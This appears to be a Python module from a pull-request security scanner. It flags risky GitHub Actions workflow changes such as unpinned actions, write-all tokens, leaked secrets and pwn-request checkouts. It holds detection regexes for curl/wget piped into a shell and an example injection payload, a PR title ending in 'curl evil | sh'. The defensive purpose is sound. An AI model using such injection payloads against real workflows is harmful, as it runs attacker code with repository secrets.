"""CI supply-chain rules for changed GitHub Actions workflows (``.github/workflows/*.yml``).

Most rules read the added lines, so a hit is always something this PR introduced:
unpinned actions, ``permissions: write-all``, secrets echoed to logs, untrusted
``${{ github.event... }}`` text in a ``run:`` script. Two need the whole post-change
file: ``pull_request_target`` with a checkout of the PR head (trigger and checkout are
usually far apart) and a workflow with no ``permissions`` at all. Without the file they
fall back to what the hunks show, with lower confidence.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

import yaml

from agents.models import Confidence, Finding, Severity
from agents.security.content import PostChange
from agents.security.diff import DiffLine, FileDiff
from agents.security.findings import FindingFactory, PrRef
from agents.security.taxonomy import A01, A03, A08, A09, Category

__all__ = ["RULE_IDS", "WorkflowHit", "WorkflowSettings", "is_workflow", "workflow_findings"]

_WORKFLOW = re.compile(r"^\.github/workflows/[^/]+\.ya?ml$")


def is_workflow(path: str) -> bool:
    return bool(_WORKFLOW.match(path))


@dataclass(frozen=True)
class WorkflowSettings:
    first_party_owners: frozenset[str] = frozenset({"actions", "github"})
    default_token_permissions: str = "write"  # noqa: S105 (a permission level)


@dataclass(frozen=True)
class WorkflowHit:
    rule: str
    line: int | None
    subject: str  # what the hit is about (an action ref, a secret's name, an expression)
    severity: Severity
    certain: bool = True


@dataclass(frozen=True)
class _Rule:
    title: str
    cwe: tuple[str, ...]
    owasp: tuple[str, ...]
    explanation: str
    recommendation: str


_RULES = {
    "pwn-request": _Rule(
        "pull_request_target workflow checks out the PR's code", ("CWE-829", "CWE-94"), (A08,),
        "A pull_request_target workflow runs with the base repository's secrets and a "
        "write token; checking out the PR head ({subject}) lets anyone who opens a PR run "
        "their code with them.",
        "Use the pull_request trigger for anything that builds or runs PR code; if "
        "pull_request_target is needed, never check out the head, or split into an "
        "unprivileged pull_request job and a workflow_run job that only reads artifacts."),
    "unpinned-action": _Rule(
        "Third-party action not pinned to a commit SHA", ("CWE-829", "CWE-494"), (A08,),
        "'{subject}' is referenced by a tag or branch, which its owner (or anyone who takes "
        "over the repository) can move to other code.",
        "Pin to the full 40-character commit SHA (with the tag in a comment) and let "
        "Dependabot or Renovate update it."),
    "write-all": _Rule(
        "Workflow grants the token write-all permissions", ("CWE-250",), (A01,),
        "'permissions: write-all' gives every step a token that can push code, publish "
        "releases and change settings.",
        "Declare only what the jobs need, e.g. 'permissions: {{contents: read}}', and grant "
        "writes per job."),
    "default-permissions": _Rule(
        "Workflow relies on the default write token permissions", ("CWE-250",), (A01,),
        "Neither the workflow nor {subject} declares 'permissions', so the token gets the "
        "repository default, which this policy takes to be write.",
        "Add 'permissions: {{contents: read}}' at the top and widen per job where needed."),
    "secret-in-log": _Rule(
        "Secret written to the build log", ("CWE-532",), (A09,),
        "A run step prints {subject}. GitHub masks exact matches only: any transformation "
        "(base64, a substring, JSON) shows it to everyone who can read the logs.",
        "Pass the secret through 'env:' to the tool that needs it and never print it; "
        "rotate it if the workflow has run."),
    "unsecure-commands": _Rule(
        "Deprecated unsafe workflow commands turned back on", ("CWE-77", "CWE-94"), (A03,),
        "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables ::set-env and ::add-path, which GitHub "
        "disabled because any text a step prints (a PR title in a log line) can set "
        "environment variables or PATH for later steps.",
        "Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to $GITHUB_ENV / $GITHUB_PATH."),
    "remote-script": _Rule(
        "Remote script piped into a shell", ("CWE-494", "CWE-829"), (A08,),
        "A run step executes what {subject} returns: whoever controls that URL (or its "
        "host) runs code in the job, with its token and secrets.",
        "Download to a file, check it against a pinned SHA-256, then run it; or use a "
        "pinned action or the distribution's package."),
    "script-injection": _Rule(
        "Untrusted event text interpolated into a script", ("CWE-78", "CWE-94"), (A03,),
        "'{subject}' is expanded into the script before the shell runs it: a PR or issue "
        "title such as '\"; curl evil | sh #' runs as code.",
        "Pass the value through an environment variable (env: TITLE: ${{{{ ... }}}}) and "
        "use \"$TITLE\" in the script."),
}

RULE_IDS = tuple(_RULES)

_USES = re.compile(r"^\s*-?\s*uses:\s*['\"]?([^'\"\s#]+)")
_FULL_SHA = re.compile(r"[0-9a-f]{40}")
_WRITE_ALL = re.compile(r"^\s*permissions:\s*['\"]?write-all\b")
_PERMISSIONS = re.compile(r"^\s*permissions\s*:")
_SECRET_PRINT = re.compile(
    r"\b(?:echo|printf|print|cat|Write-Host|Write-Output|console\.log)\b.*?"
    r"\$\{\{\s*(secrets\.[\w-]+)")
_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}")
_UNTRUSTED = re.compile(r"github\.head_ref\b|github\.event\.[\w.*\-\[\]'\"]+|\binputs\.[\w-]+")
# Event fields an outsider cannot shape: numbers, ids, hashes, timestamps, flags.
_SAFE_FIELD = re.compile(
    r"\.(?:number|id|node_id|sha|head_sha|base_sha|before|after|size|run_id|run_number"
    r"|run_attempt|merged|draft|locked|created_at|updated_at|closed_at|merged_at|"
    r"commits|additions|deletions|changed_files|comments|forced|deleted|created|"
    r"installation\.id|repository\.(?:full_name|name|owner\.login|default_branch|id)"
    r"|sender\.(?:id|type)|action)$")
_HEAD_CHECKOUT = re.compile(
    r"github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|refs/pull/"
    r"|github\.event\.workflow_run\.head_(?:sha|branch)|gh pr checkout")
_UNSECURE = re.compile(r"ACTIONS_ALLOW_UNSECURE_COMMANDS\s*[:=]\s*['\"]?true", re.IGNORECASE)
_REMOTE_SCRIPT = re.compile(
    r"\b(?:curl|wget)\b[^|;&\n]*?(https?://\S+|\$\{\{[^}]*\}\}|\$\w+)[^|;&\n]*\|\s*"
    r"(?:sudo\s+(?:-\w+\s+)*)?(?:ba|z|da)?sh\b"
    r"|(?:ba)?sh\s+(?:-c\s+)?[\"']?(?:<\(|\$\()\s*(?:curl|wget)\b[^)]*?(https?://\S+)"
    r"|\beval\s+[\"']?\$\(\s*(?:curl|wget)\b[^)]*?(https?://\S+)")
_RUN_KEY = re.compile(r"^\s*-?\s*(run|script)\s*:\s*(.*)$")
_ANY_KEY = re.compile(r"^\s*-?\s*[\w.-]+\s*:")


# -- line rules (added lines) -------------------------------------------------------------


def _untrusted(expression: str) -> bool:
    """Does the expression interpolate text an outsider (or a dispatcher) can choose?"""
    for match in _UNTRUSTED.finditer(expression):
        field = match.group(0).rstrip(".")
        if field.startswith("github.event.") and _SAFE_FIELD.search(field):
            continue
        return True
    return False


def _action_hit(line: DiffLine, settings: WorkflowSettings) -> WorkflowHit | None:
    match = _USES.match(line.text)
    if not match:
        return None
    ref = match.group(1)
    if ref.startswith("./"):
        return None  # an action in this repository: pinned by the commit itself
    if ref.startswith("docker://"):
        pinned = "@sha256:" in ref
    else:
        name, _, version = ref.partition("@")
        if name.split("/", 1)[0].lower() in settings.first_party_owners:
            return None
        pinned = bool(_FULL_SHA.fullmatch(version))
    return None if pinned else WorkflowHit("unpinned-action", line.number, ref, Severity.MEDIUM)


def _indent(text: str) -> int:
    return len(text) - len(text.lstrip())


def _script_fragment(text: str) -> str:
    """The part of a line that appears in the parsed script text."""
    own = _RUN_KEY.match(text)
    return own.group(2).strip().strip("'\"") if own else text.strip()


def _in_script(line: DiffLine, diff: FileDiff) -> bool:
    """Is this line (part of) a run:/script: value? Walks up to the enclosing key."""
    if _RUN_KEY.match(line.text):
        return True
    if _ANY_KEY.match(line.text):
        return False  # "TITLE: ${{ ... }}" under env: or with: is the safe pattern
    indent = _indent(line.text)
    for number in range(line.number - 1, max(0, line.number - 200), -1):
        text = diff.new_lines.get(number)
        if text is None:
            return True  # left the hunk inside a block scalar: most likely a script
        if text.strip() and _indent(text) < indent:
            return bool(_RUN_KEY.match(text))
    return False


def _line_hits(diff: FileDiff, settings: WorkflowSettings,
               scripts: Sequence[str] | None) -> Iterator[WorkflowHit]:
    for line in diff.added:
        if (hit := _action_hit(line, settings)) is not None:
            yield hit
        if _WRITE_ALL.match(line.text):
            yield WorkflowHit("write-all", line.number, "write-all", Severity.HIGH)
        for secret in ([] if "::add-mask::" in line.text else _SECRET_PRINT.findall(line.text)):
            yield WorkflowHit("secret-in-log", line.number, secret, Severity.HIGH)
        if _UNSECURE.search(line.text):
            yield WorkflowHit("unsecure-commands", line.number,
                              "ACTIONS_ALLOW_UNSECURE_COMMANDS", Severity.HIGH)
        if (remote := _REMOTE_SCRIPT.search(line.text)) is not None:
            url = next((g for g in remote.groups() if g), "a URL")
            yield WorkflowHit("remote-script", line.number, url, Severity.HIGH)
        for expression in _EXPRESSION.findall(line.text):
            if not _untrusted(expression):
                continue
            if scripts is not None:
                fragment = _script_fragment(line.text)
                certain, in_script = True, any(fragment in script for script in scripts)
            else:
                certain, in_script = False, _in_script(line, diff)
            if in_script:
                yield WorkflowHit("script-injection", line.number,
                                  "${{" + expression + "}}", Severity.HIGH, certain)


# -- whole-file rules ---------------------------------------------------------------------


def _load(text: str) -> Any:
    return yaml.safe_load(text)


def _triggers(document: Mapping[Any, Any]) -> set[str]:
    raw = document.get("on", document.get(True))  # YAML 1.1 reads a bare 'on' as True
    if isinstance(raw, str):
        return {raw}
    if isinstance(raw, list):
        return {str(t) for t in raw}
    if isinstance(raw, Mapping):
        return {str(t) for t in raw}
    return set()


def _jobs(document: Mapping[Any, Any]) -> dict[str, Mapping[str, Any]]:
    jobs = document.get("jobs")
    return {str(k): v for k, v in jobs.items() if isinstance(v, Mapping)} if isinstance(
        jobs, Mapping) else {}


def _steps(job: Mapping[str, Any]) -> list[Mapping[str, Any]]:
    steps = job.get("steps")
    return [s for s in steps if isinstance(s, Mapping)] if isinstance(steps, list) else []


def _scripts(document: Mapping[Any, Any]) -> list[str]:
    found = []
    for job in _jobs(document).values():
        for step in _steps(job):
            if isinstance(step.get("run"), str):
                found.append(step["run"])
            script = (step.get("with") or {}).get("script") if isinstance(
                step.get("with"), Mapping) else None
            if isinstance(script, str):
                found.append(script)
    return found


def _checks_out_head(step: Mapping[str, Any]) -> str | None:
    uses, run = str(step.get("uses", "")), str(step.get("run", ""))
    ref = (step.get("with") or {}).get("ref") if isinstance(step.get("with"), Mapping) else None
    if uses.startswith("actions/checkout") and isinstance(ref, str):
        match = _HEAD_CHECKOUT.search(ref)
        return match.group(0) if match else None
    match = _HEAD_CHECKOUT.search(run) if re.search(r"\b(?:git|gh)\b", run) else None
    return match.group(0) if match else None


def _line_of(diff: FileDiff, needle: str) -> int | None:
    return next((n for n, text in sorted(diff.new_lines.items()) if needle in text), None)


def _pwn_request(document: Mapping[Any, Any], diff: FileDiff) -> Iterator[WorkflowHit]:
    triggers = _triggers(document)
    if not triggers & {"pull_request_target", "workflow_run"}:
        return
    for job in _jobs(document).values():
        for step in _steps(job):
            head = _checks_out_head(step)
            if head is None:
                continue
            needs = "workflow_run" if "workflow_run" in head else "pull_request_target"
            if needs not in triggers:
                continue
            line = _line_of(diff, head)
            trigger_line = _line_of(diff, "pull_request_target") or _line_of(diff, "workflow_run")
            introduced = diff.status == "added" or any(
                n in diff.added_numbers for n in (line, trigger_line) if n)
            if introduced:
                yield WorkflowHit("pwn-request", line or trigger_line, head, Severity.CRITICAL)


def _default_permissions(document: Mapping[Any, Any], diff: FileDiff,
                         settings: WorkflowSettings) -> Iterator[WorkflowHit]:
    if settings.default_token_permissions != "write" or "permissions" in document:  # noqa: S105
        return
    removed = any(_PERMISSIONS.match(line.text) for line in diff.removed)
    if diff.status != "added" and not removed:
        return  # it was like this before the PR
    bare = sorted(name for name, job in _jobs(document).items() if "permissions" not in job)
    if bare:
        subject = f"job(s) {', '.join(bare[:5])}"
        yield WorkflowHit("default-permissions", _line_of(diff, "jobs:"), subject,
                          Severity.MEDIUM, certain=False)


def _hunk_pwn_request(diff: FileDiff) -> Iterator[WorkflowHit]:
    """Without the file: trigger and head checkout both visible in the hunks."""
    trigger = _line_of(diff, "pull_request_target")
    head = next(((n, m.group(0)) for n, text in sorted(diff.new_lines.items())
                 if (m := _HEAD_CHECKOUT.search(text))), None)
    if trigger and head and (trigger in diff.added_numbers or head[0] in diff.added_numbers):
        yield WorkflowHit("pwn-request", head[0], head[1], Severity.CRITICAL, certain=False)


# -- findings -----------------------------------------------------------------------------


def _finding(factory: FindingFactory, pr: PrRef, diff: FileDiff, hit: WorkflowHit,
             fallback: str | None, occurrence: int = 1) -> Finding:
    spec = _RULES[hit.rule]
    note = f" Read from the diff hunks only: {fallback}." if fallback and not hit.certain else ""
    key = (diff.path, hit.rule, hit.subject) + ((occurrence,) if occurrence > 1 else ())
    return factory.finding(
        Category.CI_SUPPLY_CHAIN, pr, key,
        severity=hit.severity, confidence=Confidence.HIGH if hit.certain else Confidence.MEDIUM,
        title=f"{spec.title} ({diff.path})",
        explanation=spec.explanation.format(subject=hit.subject) + note,
        evidence=[factory.at(pr, diff.path, hit.line,
                             diff.new_lines.get(hit.line) if hit.line else None)],
        recommendation=spec.recommendation.format(), cwe=spec.cwe, owasp=spec.owasp,
        rule_id="RRA-GHA-" + hit.rule.upper())


def workflow_findings(factory: FindingFactory, pr: PrRef, diff: FileDiff, post: PostChange,
                      settings: WorkflowSettings) -> tuple[list[Finding], str | None]:
    """Findings, and why the whole-file rules did not run (None when they did)."""
    findings: list[Finding] = []
    document: Mapping[Any, Any] | None = None
    fallback: str | None = None
    if post.text is not None:
        try:
            loaded = _load(post.text)
            document = loaded if isinstance(loaded, Mapping) else None
            fallback = None if document is not None else "the workflow is not a YAML mapping"
        except yaml.YAMLError as exc:
            findings.append(factory.unreadable(pr, diff.path, "YAML", str(exc)))
            fallback = "the post-change file does not parse as YAML"
    else:
        fallback = post.why or "post-change content not available"
    hits = list(_line_hits(diff, settings, _scripts(document) if document is not None else None))
    if document is not None:
        hits += [*_pwn_request(document, diff), *_default_permissions(document, diff, settings)]
    else:
        hits += list(_hunk_pwn_request(diff))
    # One finding per occurrence: the same expression twice is two places to fix. The
    # fingerprint counts occurrences, so it survives lines moving.
    seen: set[tuple[str, str, int | None]] = set()
    ordinal: Counter[tuple[str, str]] = Counter()
    for hit in hits:
        if (hit.rule, hit.subject, hit.line) in seen:
            continue
        seen.add((hit.rule, hit.subject, hit.line))
        ordinal[(hit.rule, hit.subject)] += 1
        findings.append(_finding(factory, pr, diff, hit, fallback,
                                 ordinal[(hit.rule, hit.subject)]))
    return findings, fallback
